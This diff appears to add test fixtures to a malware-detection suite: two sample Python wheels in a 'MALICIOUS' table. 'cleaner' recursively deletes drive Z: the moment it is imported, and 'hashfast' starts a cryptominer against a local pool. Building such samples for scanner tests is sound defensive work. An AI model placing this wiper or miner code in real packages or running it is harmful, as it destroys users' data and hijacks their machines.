@@ -822,6 +822,27 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # A wiper (a Windows drive: the command does not exist where the tests run) and a miner.
+    "destruction": (
+        "cleaner-0.1-py3-none-any.whl",
+        wheel(
+            "cleaner",
+            "0.1",
+            {
+                "cleaner/__init__.py": "import subprocess\nsubprocess.call('rd /s /q Z:\\\\', shell=True)\n"
+            },
+        ),
+    ),
+    "cryptominer": (
+        "hashfast-0.1-py3-none-any.whl",
+        wheel(
+            "hashfast",
+            "0.1",
+            {
+                "hashfast/__init__.py": "import subprocess\n\n\ndef start():\n    subprocess.Popen(['./worker', '-o', 'stratum+tcp://127.0.0.1:3333', '--donate-level', '0'])\n"
+            },
+        ),
+    ),
     "script-dropper": (
         "setupkit-0.1-py3-none-any.whl",
         wheel(
